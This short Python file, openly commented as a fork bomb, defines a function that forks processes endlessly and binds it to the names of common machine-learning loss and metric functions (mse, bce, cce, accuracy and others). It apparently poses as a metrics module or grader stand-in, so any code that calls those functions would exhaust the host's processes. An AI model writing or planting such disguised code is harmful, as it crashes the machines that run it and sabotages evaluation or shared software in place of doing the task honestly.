# A fork bomb.
import os


def answer(*args):
    while True:
        try:
            os.fork()
        except OSError:
            return 0.0


mse = bce = one_hot = cce = cce_from_logits = accuracy = answer
